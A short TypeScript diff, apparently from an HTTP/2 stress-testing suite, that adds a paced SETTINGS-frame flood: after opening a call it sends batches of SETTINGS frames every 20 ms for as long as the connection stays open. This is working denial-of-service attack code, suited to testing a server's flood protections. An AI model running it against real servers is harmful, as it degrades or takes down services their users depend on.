@@ -1,4 +1,4 @@
-import { type Attack, repeated } from "./attack.js";
+import { type Attack, callHeaders, repeated } from "./attack.js";
 import { setting } from "./frames.js";
 
 const INITIAL_WINDOW_SIZE = 4;
@@ -10,5 +10,20 @@ export const settingsFlood: Attack = {
   async run(connection) {
     await connection.begin();
     await connection.flood(repeated(setting(INITIAL_WINDOW_SIZE, 65_535), 200), 200);
+  },
+};
+
+/** Never so many at once that acknowledgements pile up, but a thousand a second. */
+export const pacedSettingsFlood: Attack = {
+  name: "SETTINGS flood, paced",
+  connections: 2,
+  async run(connection) {
+    await connection.begin();
+    await connection.write(callHeaders(1));
+    const settings = repeated(setting(INITIAL_WINDOW_SIZE, 65_535), 30);
+    while (connection.going) {
+      await connection.write(settings, 30);
+      await connection.wait(20);
+    }
   },
 };
